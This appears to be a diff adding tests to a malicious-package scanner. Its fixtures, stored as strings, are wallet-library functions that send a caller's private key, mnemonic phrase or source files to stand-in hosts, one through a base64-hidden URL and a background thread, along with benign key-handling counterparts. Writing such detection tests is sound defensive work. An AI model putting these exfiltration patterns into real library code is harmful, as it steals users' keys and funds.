@@ -676,3 +676,57 @@ def test_command_lines_in_a_help_index_or_a_grammar_are_data() -> None:
     runs = 'const cp = require("child_process");\n' + index.replace(
         "window.HELP = ", "cp.execSync(JSON.stringify(") + "\n"
     assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/run.js": runs}, NPM)
+
+
+# ---- a library function that sends away what its caller holds
+
+CALLER_EXFIL = {
+    "a key posted in a set literal": (
+        "import requests\n\ndef perm(private_key):\n"
+        "    data = [{'key', private_key}]\n"
+        "    requests.post('https://x.mockapi.example/tron', data)\n"
+    ),
+    "a mnemonic posted from a thread, to an address made from a constant": (
+        "import base64, threading, requests\nAPI = 'aHR0cHM6Ly9leGFtcGxlLm9yZy9s'\n\n"
+        "def log_balances(mnemonic_phrase):\n    def _log():\n"
+        "        url = base64.b64decode(API).decode()\n"
+        "        requests.post(url, json={'m': mnemonic_phrase})\n"
+        "    threading.Thread(target=_log).start()\n"
+    ),
+    "the caller's source read off the stack and sent through a helper": (
+        "import inspect, json, urllib.request\n\ndef _post(url, data):\n"
+        "    req = urllib.request.Request(url, json.dumps(data).encode())\n"
+        "    return urllib.request.urlopen(req)\n\n"
+        "def register(node):\n    for frame in inspect.stack():\n"
+        "        with open(frame.filename) as f:\n"
+        "            _post('http://198.51.100.7:3000/r', {'j': f.read()})\n"
+    ),
+}
+CALLER_ORDINARY = {
+    "a wallet signs with the key and sends the signed transaction": (
+        "import requests\n\ndef send(tx, private_key, rpc='https://rpc.example.org'):\n"
+        "    signed = sign_transaction(tx, private_key)\n"
+        "    return requests.post('https://rpc.example.org', json={'tx': signed.hex()})\n"
+    ),
+    "a key handed to the key service the caller configured": (
+        "class Kmd:\n    def import_key(self, handle, private_key):\n"
+        "        query = {'wallet_handle_token': handle, 'private_key': private_key}\n"
+        "        return self.kmd_request('POST', '/key/import', data=query)\n"
+    ),
+    "a key sent to where the caller says": (
+        "import requests\n\ndef upload(url, private_key):\n"
+        "    return requests.put(url, data=private_key)\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("body", CALLER_EXFIL.values(), ids=CALLER_EXFIL.keys())
+def test_a_function_sending_its_callers_secrets_away_is_malicious(body: str) -> None:
+    files = {"walletlib-0.1/walletlib/core.py": body}
+    assert SignalKind.CALLER_DATA_EXFIL in kinds(files)
+    assert verdict(files) is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize("body", CALLER_ORDINARY.values(), ids=CALLER_ORDINARY.keys())
+def test_wallet_and_key_service_code_is_not_caller_exfiltration(body: str) -> None:
+    assert SignalKind.CALLER_DATA_EXFIL not in kinds({"walletlib-0.1/walletlib/core.py": body})
